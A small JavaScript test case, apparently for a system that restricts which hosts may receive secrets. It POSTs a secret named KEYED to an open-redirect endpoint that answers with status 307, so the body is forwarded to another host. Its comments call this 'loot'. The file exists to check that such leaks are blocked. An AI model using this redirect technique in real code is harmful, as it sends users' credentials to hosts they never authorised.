// A host redirects a request whose body holds a secret to another host, with status 307.
// guard: secrets are for hosts
// harm: loot
// control: any host
// says: may not send the secret KEYED to
module.exports = {
  metadata: { name: 'redirect-with-body', cache: 0, requiredSecrets: ['KEYED'], match: { contextType: 'github', context: { 'page.attack': { equals: 'redirect-with-body' } } } },
  async run(context, secrets) {
    await fetch(`${context.page.direct}/open/redirect?status=307+Again&to=${encodeURIComponent(context.page.granted)}`, { method: 'POST', body: new URLSearchParams({ key: secrets.KEYED }) });
    return { type: 'text', content: 'sent' };
  },
};
